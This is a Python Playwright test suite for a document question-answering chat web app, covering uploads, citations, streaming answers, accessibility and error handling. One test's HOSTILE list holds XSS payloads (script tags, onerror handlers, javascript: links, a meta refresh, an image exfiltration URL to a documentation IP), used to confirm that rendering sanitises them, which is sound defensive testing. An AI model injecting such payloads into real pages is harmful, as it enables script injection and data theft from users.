"""The page in Chromium, against the real service: what a person does and sees, and what the page must never do."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, Route, expect

from tests.kit.apps import write_app
from tests.kit.browser import Visitor, Watch, chromium
from tests.kit.debian import ANSWER_SNIPPET, QUESTION, debian_pdf
from tests.kit.server import ROOT, Server
from tests.kit.upstream import Gate, Upstream, faults

pytestmark = pytest.mark.browser

WHALES = b"# Whales\n\n## Size\n\nThe blue whale is 30 metres long.\n\n## Food\n\nIt eats four tonnes of krill a day.\n"
PHONE: dict[str, Any] = {"viewport": {"width": 390, "height": 780}, "has_touch": True, "is_mobile": True}
Visit = Callable[..., Visitor]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as running:
        yield running


@pytest.fixture(scope="module")
def apps(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The shipped app and a second one."""
    folder = tmp_path_factory.mktemp("page") / "apps"
    shutil.copytree(ROOT / "apps" / "assistant", folder / "assistant")
    write_app(folder, "recipes")
    return folder


@pytest.fixture(scope="module")
def offline(browser: Browser, apps: Path) -> Iterator[Server]:
    """The service as `make run` starts it: without any model but the stand-in."""
    with Server(apps.parent / "offline", {"STAND_IN_WORDS_PER_SECOND": "60"}, apps) as server:
        yield server


@pytest.fixture(scope="module")
def provider() -> Iterator[Upstream]:
    with Upstream() as upstream:
        yield upstream


@pytest.fixture(scope="module")
def online(browser: Browser, apps: Path, provider: Upstream) -> Iterator[Server]:
    """The service with a model that says what a test scripts."""
    model = {"OPENAI_BASE_URL": provider.url, "OPENAI_API_KEY": "sk-page"}
    with Server(apps.parent / "online", model, apps) as server:
        yield server


@pytest.fixture
def visit(browser: Browser) -> Iterator[Visit]:
    """Makes visitors of a server; at the end nothing that a page must not do has happened."""
    visitors: list[Visitor] = []

    def visit(server: Server, **options: Any) -> Visitor:
        context = browser.new_context(
            **{"reduced_motion": "reduce", "viewport": {"width": 1280, "height": 800}, **options}
        )
        context.set_default_timeout(10_000)
        watch = Watch(server.url)
        watch.over(context)
        visitors.append(Visitor(context, server.url, watch))
        return visitors[-1]

    yield visit
    for visitor in visitors:
        visitor.context.close()
        assert visitor.watch.seen == []


@pytest.fixture
def name(request: pytest.FixtureRequest) -> str:
    """A user of this test alone."""
    return hashlib.sha256(request.node.name.encode()).hexdigest()[:12]


@pytest.mark.offline_model
def test_a_newcomer_uploads_a_pdf_asks_and_finds_the_cited_answer_again(visit: Visit, offline: Server) -> None:
    ada = visit(offline).come()
    page = ada.page
    expect(page.get_by_role("heading", name="Drop a PDF here, then ask about it")).to_be_visible()
    expect(page.get_by_text("No language model is set.")).to_be_visible()

    ada.choose("handbook.pdf", debian_pdf().read_bytes(), "application/pdf")
    expect(ada.tray.locator("progress")).to_be_visible()
    expect(ada.tray).to_contain_text(re.compile(r"Reading, \d+ %"), timeout=30_000)
    expect(ada.tray).to_contain_text("Ready", timeout=60_000)

    turn = ada.ask(QUESTION)
    lengths = growth(turn)
    assert len(lengths) > 5, f"the answer came at once: {lengths}"
    expect(turn.locator(".citation").first).to_be_visible()
    answer = turn.locator(".prose").inner_text()
    read = open_all_sources(ada, turn)
    assert ANSWER_SNIPPET in " ".join(read.split())

    page.reload()
    expect(turn.locator(".prose")).to_have_text(answer, use_inner_text=True)
    expect(page.get_by_role("heading", name=QUESTION)).to_be_visible()

    page.goto(offline.url)
    ada.chats.get_by_role("link", name=QUESTION).click()
    expect(turn.locator(".citation").first).to_be_visible()
    delete_everything(ada)


def growth(turn: Locator) -> list[int]:
    """The lengths that a running answer had on the screen, one after the other."""
    lengths = turn.evaluate(
        """(turn) => new Promise((resolve) => {
          const lengths = new Set();
          const look = () => {
            lengths.add(turn.querySelector('.prose').textContent.length);
            if (turn.dataset.status === 'COMPLETED') resolve([...lengths]);
            else requestAnimationFrame(look);
          };
          look();
        })"""
    )
    assert lengths == sorted(lengths)
    return [int(length) for length in lengths]


def open_all_sources(visitor: Visitor, turn: Locator) -> str:
    """Open each source of an answer and return what they say; the focus comes back to where it was."""
    texts = []
    for source in turn.locator(".source").all():
        source.click()
        expect(visitor.dialog).to_contain_text(re.compile(r"page \d+"))
        texts.append(visitor.dialog.locator(".passage").inner_text())
        visitor.page.keyboard.press("Escape")
        expect(visitor.dialog).to_have_count(0)
        expect(source).to_be_focused()
    return "\n".join(texts)


def delete_everything(visitor: Visitor) -> None:
    visitor.chats.first.hover()
    visitor.button("Delete", visitor.chats.first).click()
    visitor.button("Cancel", visitor.dialog).click()
    visitor.button("Delete", visitor.chats.first).click()
    visitor.button("Delete", visitor.dialog).click()
    expect(visitor.chats).to_have_count(0)

    visitor.button("Documents").click()
    visitor.button("Delete", visitor.dialog).click()
    visitor.button("Delete", visitor.dialog.last).click()
    expect(visitor.dialog).to_contain_text("No documents yet")
    visitor.page.keyboard.press("Escape")
    expect(visitor.page.get_by_role("heading", name="Drop a PDF here, then ask about it")).to_be_visible()


def test_a_stopped_answer_is_kept_and_can_be_asked_again(
    visit: Visit, online: Server, provider: Upstream, name: str
) -> None:
    ada = visit(online).come(name)
    provider.enqueue("The first half", gate := Gate(), " and the rest")
    turn = ada.ask("Tell me")
    expect(turn.locator(".prose")).to_have_text("The first half")
    ada.button("Stop the answer").click()
    expect(turn).to_have_attribute("data-status", "INTERRUPTED")
    gate.open()

    ada.page.reload()
    expect(turn).to_contain_text("Stopped before the end. What came so far is kept.")
    expect(turn.locator(".prose")).to_have_text("The first half")

    provider.enqueue("All of it")
    ada.button("Ask again").click()
    expect(ada.turns.last.locator(".prose")).to_have_text("All of it")
    expect(ada.turns).to_have_count(2)


def test_another_tab_sees_the_answer_of_this_one_and_cannot_ask_in_between(
    visit: Visit, online: Server, provider: Upstream, name: str
) -> None:
    ada = visit(online).come(name)
    provider.enqueue("Begun", gate := Gate(), ", and done")
    ada.ask("Slowly")
    expect(ada.turns.locator(".prose")).to_have_text("Begun")

    other = Visitor(ada.context, online.url, ada.watch)
    other.page.goto(ada.page.url)
    expect(other.turns).to_have_attribute("data-status", "STREAMING")
    gate.open()
    expect(other.turns).to_have_attribute("data-status", "COMPLETED")
    expect(other.turns.locator(".prose")).to_have_text("Begun, and done")

    provider.enqueue("Again", gate := Gate())
    ada.ask("Once more")
    expect(ada.turns.last.locator(".prose")).to_have_text("Again")
    other.ask("Me too")
    expect(other.note).to_contain_text("This chat is still answering")
    other.watch.allow("status of 409")
    gate.open()
    expect(ada.turns.last).to_have_attribute("data-status", "COMPLETED")
    other.button("Try again", other.note).click()
    expect(other.turns.last).to_have_attribute("data-status", "COMPLETED")


def test_an_answer_goes_on_while_another_chat_is_open(
    visit: Visit, online: Server, provider: Upstream, name: str
) -> None:
    ada = visit(online).come(name)
    provider.enqueue("Begun", gate := Gate(), ", and done")
    ada.ask("Slowly")
    expect(ada.turns.locator(".prose")).to_have_text("Begun")
    ada.button("New chat").click()
    expect(ada.turns).to_have_count(0)
    expect(ada.chats.get_by_role("img", name="Answering")).to_be_visible()
    gate.open()
    expect(ada.chats.get_by_role("img", name="Answering")).to_have_count(0)
    ada.chats.get_by_role("link", name="Slowly").click()
    expect(ada.turns.locator(".prose")).to_have_text("Begun, and done")


def test_a_file_that_cannot_be_read_says_why(visit: Visit, online: Server, name: str) -> None:
    ada = visit(online).come(name)
    ada.choose("broken.pdf", b"%PDF-1.7 and nothing of a PDF", "application/pdf")
    expect(ada.tray).to_contain_text("damaged", timeout=20_000)
    ada.choose("film.mp4", b"moving pictures", "video/mp4")
    expect(ada.tray.last).to_contain_text("This file cannot be read. These can: PDF, Word, Markdown")
    ada.button("Documents").click()
    card = ada.dialog.locator(".card")
    expect(card).to_have_attribute("data-status", "FAILED")
    expect(card).to_contain_text("damaged")


def test_a_dropped_file_is_cited_and_its_original_can_be_downloaded(
    visit: Visit, online: Server, provider: Upstream, name: str
) -> None:
    ada = visit(online).come(name)
    ada.drop("whales.md", WHALES)
    expect(ada.tray).to_contain_text("Ready", timeout=20_000)
    ada.drop("copy.md", WHALES)
    expect(ada.tray.last).to_contain_text("You have this one already")
    provider.enqueue("Krill, four tonnes [1], and `[1]` is code. Not a source: [9].")
    turn = ada.answered("What do whales eat?")
    expect(turn.locator(".citation")).to_have_count(1)
    turn.locator(".citation").click()
    expect(ada.dialog).to_contain_text("whales.md")
    expect(ada.dialog.locator(".path")).to_contain_text("Whales ›")
    with ada.page.expect_download() as download:
        ada.button("Download the original").click()
    assert Path(download.value.path()).read_bytes() == WHALES
    assert download.value.suggested_filename == "whales.md"


def test_the_page_works_by_keyboard_alone(visit: Visit, online: Server, provider: Upstream, name: str) -> None:
    ada = visit(online)
    page, keyboard = ada.page, ada.page.keyboard
    page.goto(online.url)
    expect(page.get_by_label("Your name")).to_be_focused()
    keyboard.type(name)
    keyboard.press("Enter")
    question = page.get_by_label("Your question")
    expect(question).to_be_focused()
    ada.add("whales.md", WHALES)
    provider.enqueue("They are long [1].")
    question.focus()
    keyboard.type("How long")
    keyboard.press("Shift+Enter")
    keyboard.type("is a whale?")
    expect(ada.turns).to_have_count(0)
    keyboard.press("Enter")
    expect(ada.turns).to_have_attribute("data-status", "COMPLETED")
    expect(ada.turns.locator(".prompt p")).to_have_text("How long\nis a whale?", use_inner_text=True)

    page.locator(".citation").focus()
    keyboard.press("Enter")
    expect(ada.dialog).to_be_visible()
    for _ in range(6):  # the focus goes round inside
        keyboard.press("Tab")
    assert page.evaluate(
        "document.querySelector('dialog').contains(document.activeElement) || document.activeElement === document.body"
    )
    keyboard.press("Escape")
    expect(page.locator(".citation")).to_be_focused()
    expect(page.get_by_role("log")).to_contain_text("They are long")

    page.reload()
    expect(ada.turns).to_have_count(1)
    page.evaluate("document.body.tabIndex = -1; document.body.focus()")
    keyboard.press("Tab")
    expect(page.get_by_text("Skip to the question box")).to_be_focused()
    keyboard.press("Enter")
    expect(question).to_be_focused()


def test_every_control_has_a_name_and_the_headings_nest(visit: Visit, online: Server, name: str) -> None:
    ada = visit(online).come(name)
    ada.add("whales.md", WHALES)
    ada.answered("What is long?")
    ada.button("Documents").click()
    unnamed = ada.page.evaluate(
        """() => [...document.querySelectorAll('button, a, input, select, textarea, dialog, img')]
          .filter((element) => element.checkVisibility())
          .filter((element) => !(element.getAttribute('aria-label') || element.textContent.trim() || element.labels?.length
            || element.hasAttribute('alt') || document.getElementById(element.getAttribute('aria-labelledby'))))
          .map((element) => element.outerHTML)"""
    )
    assert unnamed == []


def test_on_a_phone_the_sidebar_is_a_drawer(visit: Visit, online: Server, provider: Upstream, name: str) -> None:
    ada = visit(online, **PHONE).come(name)
    page = ada.page
    sidebar = page.get_by_role("complementary", name="Chats and documents")
    expect(sidebar).to_have_count(0)
    ada.drop("whales.md", WHALES)
    expect(ada.tray).to_contain_text("Ready", timeout=20_000)
    long_line = "`" + "x" * 300 + "`"
    provider.enqueue(f"Wide things: {long_line}\n\n```\n{long_line}\n```\n\n|a|b|\n|-|-|\n|{long_line}|2| [1]")
    ada.answered("Is it wide?")
    assert page.evaluate(
        "document.documentElement.scrollWidth <= innerWidth && document.querySelector('#scroller').scrollWidth <= innerWidth"
    )

    page.get_by_role("button", name="Open the menu").tap()
    expect(sidebar).to_be_visible()
    expect(ada.button("Close the menu")).to_be_focused()
    page.keyboard.press("Escape")
    expect(sidebar).to_have_count(0)
    expect(ada.button("Open the menu")).to_be_focused()
    ada.button("Open the menu").tap()
    ada.button("New chat").tap()
    expect(sidebar).to_have_count(0)
    expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_theme_follows_the_system_until_someone_chooses(
    visit: Visit, online: Server, name: str, scheme: str
) -> None:
    ada = visit(online, color_scheme=scheme).come(name)
    ada.add("whales.md", WHALES)
    ada.answered("What is long?")
    assert brightness(ada.page) == scheme
    assert low_contrast(ada.page) == []
    other = {"light": "dark", "dark": "light"}[scheme]
    ada.button(f"Switch to the {other} theme").click()
    ada.page.reload()
    expect(ada.button(f"Switch to the {scheme} theme")).to_be_visible()
    assert brightness(ada.page) == other


def brightness(page: Page) -> str:
    [red, *_] = re.findall(r"\d+", page.evaluate("getComputedStyle(document.body).backgroundColor"))
    return "light" if int(red) > 128 else "dark"


def low_contrast(page: Page) -> list[str]:
    """The visible texts of which the contrast is below 4.5:1 (WCAG 2.2, 1.4.3), each with its ratio."""
    script = (Path(__file__).parent / "kit" / "contrast.js").read_text()
    found: list[str] = page.evaluate(script)
    return found


HOSTILE = [
    "<img src=x onerror=window.pwned=1>",
    "<script>window.pwned=1</script>",
    "<svg onload=window.pwned=1><a xlink:href='javascript:window.pwned=1'>x</a></svg>",
    "[press](javascript:window.pwned=1) [press](data:text/html,<script>window.pwned=1</script>)",
    "[press](java\tscript:window.pwned=1) <javascript:window.pwned=1>",
    '![picture](http://192.0.2.1/leak.png?q=secret) ![x](x" onerror="window.pwned=1)',
    "<iframe src='http://192.0.2.1/'></iframe><object data=x></object><embed src=x>",
    "<form action='http://192.0.2.1/'><button>Sign in</button></form><input autofocus onfocus=window.pwned=1>",
    "<style>body { display: none }</style><link rel=stylesheet href='http://192.0.2.1/x.css'>",
    "<a href='javascript:window.pwned=1' id=composer name=composer>press</a><base href='http://192.0.2.1/'>",
    "<div style='position:fixed;inset:0;background:url(http://192.0.2.1/)'>over</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>",
    "```<img src=x onerror=window.pwned=1>\n<img src=x onerror=window.pwned=1>\n```",
    "<details open ontoggle=window.pwned=1><summary>s</summary></details> <meta http-equiv=refresh content=0;url=http://192.0.2.1/>",
]
ALLOWED = {
    *("h3", "h4", "h5", "h6", "p", "ul", "ol", "li", "blockquote", "pre", "hr", "br", "div", "button"),
    *("table", "thead", "tbody", "tr", "th", "td", "a", "code", "del", "em", "kbd", "strong", "sub", "sup"),
}


def test_hostile_text_stays_text_wherever_it_appears(
    visit: Visit, online: Server, provider: Upstream, name: str
) -> None:
    ada = visit(online).come(name)
    page = ada.page
    everything = "\n\n".join(HOSTILE)
    ada.add("<img src=x onerror=window.pwned=1>.md", f"# <script>window.pwned=1</script>\n\n{everything}".encode())
    provider.enqueue(*(everything[at : at + 7] for at in range(0, len(everything), 7)), " [1]")
    turn = ada.answered(f"{HOSTILE[0]} {HOSTILE[1]}")
    for source in turn.locator(".source").all():
        source.click()
        expect(ada.dialog.locator(".passage")).to_be_visible()
        page.keyboard.press("Escape")
    ada.button("Documents").click()
    expect(ada.dialog.locator(".card")).to_contain_text("<img src=x onerror=window.pwned=1>.md")
    page.keyboard.press("Escape")
    page.reload()
    expect(turn.locator(".prompt p")).to_have_text(f"{HOSTILE[0]} {HOSTILE[1]}")

    made = page.evaluate(
        """() => [...document.querySelectorAll('.prose *')].map((element) =>
          [element.localName, [...element.attributes].map(({ name, value }) => `${name}=${value}`)])"""
    )
    assert {tag for tag, _ in made} <= ALLOWED
    attributes = [attribute for _, found in made for attribute in found]
    assert not [
        attribute for attribute in attributes if re.match(r"on|style|id=|name=|src|href=(?!https?:|mailto:)", attribute)
    ]
    links = page.locator(".prose a")
    assert {link.get_attribute("rel") for link in links.all()} == {"noopener noreferrer nofollow"}
    for link in links.all():
        assert link.get_attribute("target") == "_blank"
    assert page.evaluate("window.pwned") is None


def test_a_refusal_says_what_to_do(visit: Visit, online: Server, name: str) -> None:
    ada = visit(online).come(name)
    for status, code, title, advice in [
        (413, "too_large", "This is too large", "Shorten it"),
        (422, "unprocessable", "This cannot be sent as it is", "The reason."),
        (429, "budget_spent", "As the server calls it", "Try again in 30 seconds."),
        (503, "upstream_config", "The model is not set up rightly", "OPENAI_API_KEY"),
        (500, "internal", "Something went wrong inside Brainstem", "Reference r-17"),
    ]:
        refuse_once(ada, status, code)
        ada.ask("Please")
        expect(ada.note).to_contain_text(title)
        expect(ada.note).to_contain_text(advice)
        ada.watch.allow(f"status of {status}")
        ada.button("Edit", ada.note).click()
        expect(ada.turns).to_have_count(0)
        expect(ada.page.get_by_label("Your question")).to_have_value("Please")
    ada.page.keyboard.press("Enter")
    expect(ada.turns).to_have_attribute("data-status", "COMPLETED")


def refuse_once(visitor: Visitor, status: int, code: str) -> None:
    """Answer the next message with a problem, as the server words it."""
    problem = {
        "status": status,
        "code": code,
        "title": "As the server calls it",
        "detail": "The reason.",
        "requestId": "r-17",
    }
    headers = {"Retry-After": "30", "Content-Type": "application/problem+json"}

    def refuse(route: Route) -> None:
        route.fulfill(status=status, headers=headers, body=json.dumps(problem))

    visitor.page.route("**/messages", refuse, times=1)


def test_a_message_that_may_have_arrived_is_sent_again_as_the_same_one(visit: Visit, online: Server, name: str) -> None:
    ada = visit(online).come(name)
    ada.context.set_offline(True)
    ada.ask("Hello?")
    expect(ada.note).to_contain_text("Brainstem cannot be reached")
    ada.watch.allow("ERR_INTERNET_DISCONNECTED")
    ada.context.set_offline(False)
    ada.button("Try again", ada.note).click()
    expect(ada.turns).to_have_attribute("data-status", "COMPLETED")
    ada.page.reload()
    expect(ada.turns).to_have_count(1)


def test_a_model_that_fails_is_explained_and_can_be_asked_again(
    visit: Visit, online: Server, provider: Upstream, name: str
) -> None:
    ada = visit(online).come(name)
    provider.script(faults.status(401))
    ada.ask("Hello?")
    expect(ada.note).to_contain_text("The model is not set up rightly")
    provider.enqueue("Half an", finish=None)
    ada.button("Ask again", ada.note).click()
    expect(ada.turns.last).to_contain_text("The answer broke off")
    expect(ada.turns.last.locator(".prose")).to_have_text("Half an")
    provider.enqueue("Too long", finish="length")
    ada.button("Ask again", ada.turns.last).click()
    expect(ada.turns.last).to_contain_text("it reached the length that this app allows")


def test_a_spent_token_is_renewed_without_a_word(visit: Visit, online: Server, name: str) -> None:
    ada = visit(online).come(name)
    refuse_once(ada, 401, "invalid_token")
    ada.answered("Still there?")
    ada.watch.allow("status of 401")
    expect(ada.note).to_have_count(0)


def test_a_name_is_remembered_until_its_owner_signs_out(visit: Visit, online: Server, name: str) -> None:
    ada = visit(online).come(name)
    ada.answered("Mine")
    ada.page.reload()
    expect(ada.page.locator("#user")).to_have_text(name)
    ada.button("Sign out").click()
    expect(ada.page.get_by_label("Your name")).to_have_value(name)
    ada.page.get_by_label("Your name").fill(f"not-{name}")
    ada.button("Continue").click()
    expect(ada.page.locator("#user")).to_have_text(f"not-{name}")
    expect(ada.turns).to_have_count(0)
    expect(ada.page.get_by_text("Your chats will be listed here.")).to_be_visible()


def test_each_app_has_its_own_chats(visit: Visit, online: Server, name: str) -> None:
    ada = visit(online).come(name)
    ada.answered("For the assistant")
    ada.page.get_by_label("App", exact=True).select_option(label="Recipes")
    expect(ada.chats).to_have_count(0)
    ada.answered("For the cook")
    expect(ada.chats).to_have_count(1)
    ada.page.go_back()
    ada.page.go_back()
    expect(ada.turns.locator(".prompt p")).to_have_text("For the assistant")


def test_a_chat_can_be_renamed(visit: Visit, online: Server, name: str) -> None:
    ada = visit(online).come(name)
    ada.answered("A dull title")
    ada.chats.hover()
    ada.button("Rename", ada.chats).click()
    ada.dialog.get_by_label("Title").fill("A <b>fine</b> title")
    ada.page.keyboard.press("Enter")
    expect(ada.page.get_by_role("heading", name="A <b>fine</b> title")).to_be_visible()
    ada.page.reload()
    expect(ada.chats.get_by_role("link")).to_have_text("A <b>fine</b> title")


def test_what_is_older_is_loaded_on_request(visit: Visit, online: Server, name: str) -> None:
    me = online.sign_in(name)
    for n in range(32):
        online.request("POST", f"/v1/apps/assistant/chats/many-{n}/messages", {"text": f"Chat {n}"}, me)
        online.request("POST", "/v1/apps/assistant/chats/long/messages", {"text": f"Question {n}"}, me)
    ada = visit(online).come(name)
    expect(ada.chats).to_have_count(30)
    ada.button("Show more").click()
    expect(ada.chats).to_have_count(33)
    ada.page.goto(f"{online.url}/#/assistant/long")
    expect(ada.turns).to_have_count(30)
    expect(ada.turns.last).to_be_in_viewport()
    ada.button("Show earlier messages").click()
    expect(ada.turns).to_have_count(32)
    expect(ada.turns.first).to_contain_text("Question 0")


def test_a_chat_that_is_gone_says_so(visit: Visit, online: Server, name: str) -> None:
    ada = visit(online).come(name)
    ada.page.goto(f"{online.url}/#/assistant/never-was")
    expect(ada.note).to_contain_text("This is no longer here")
    ada.watch.allow("status of 404")
    ada.button("Start a new chat").click()
    expect(ada.page.get_by_role("heading", name="Drop a PDF here, then ask about it")).to_be_visible()


def test_usage_and_the_way_to_a_model_are_shown(visit: Visit, online: Server, offline: Server, name: str) -> None:
    ada = visit(online).come(name)
    ada.answered("Count this")
    ada.button("Usage").click()
    expect(ada.dialog.get_by_role("table")).to_contain_text("gpt-5-mini")
    without = visit(offline).come(name)
    without.button("Set a model").click()
    expect(without.dialog).to_contain_text("OPENAI_API_KEY")


def test_events_are_understood_however_they_are_cut(visit: Visit, online: Server) -> None:
    ada = visit(online)
    ada.page.goto(online.url)
    told = ada.page.evaluate(
        r"""async () => {
          const { EventParser } = await import('/web/sse.js');
          const parts = [': beat\n\nid: 1\nevent: delta\ndata: {"text":\ndata: "a"}\n\n', 'data:bare\n\n', 'event: x\n\n', 'data\n\ndata: cut'];
          const results = new Set();
          for (const end of ['\n', '\r\n', '\r']) {
            const text = parts.join('').replaceAll('\n', end);
            for (let at = 0; at <= text.length; at += 1) {
              const parser = new EventParser();
              results.add(JSON.stringify([text.slice(0, at), '', text.slice(at)].flatMap((piece) => parser.feed(piece))));
            }
          }
          return [...results].map(JSON.parse);
        }"""
    )
    expected = [
        {"event": "delta", "data": '{"text":\n"a"}'},
        {"event": "message", "data": "bare"},
        {"event": "message", "data": ""},
    ]
    assert told == [expected]


def test_the_vendored_modules_are_those_of_the_note() -> None:
    vendor = ROOT / "web" / "vendor"
    rows = re.findall(r"^\| `(\S+)` .* `([0-9a-f]{64})` \|$", (vendor / "VERSIONS.md").read_text(), re.MULTILINE)
    assert dict(rows) == {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in vendor.glob("*.js")}


def test_every_module_is_loaded_ahead_and_none_is_inline() -> None:
    web = ROOT / "web"
    page = (web / "index.html").read_text()
    ahead = set(re.findall(r'<link rel="modulepreload" href="/web/(\S+)">', page))
    modules = {str(path.relative_to(web)) for path in web.rglob("*.js")}
    assert ahead == modules - {"early.js", "main.js"}
    assert not re.search(r"<script(?![^>]*\bsrc=)|<style|\sstyle=|\son\w+=", page)
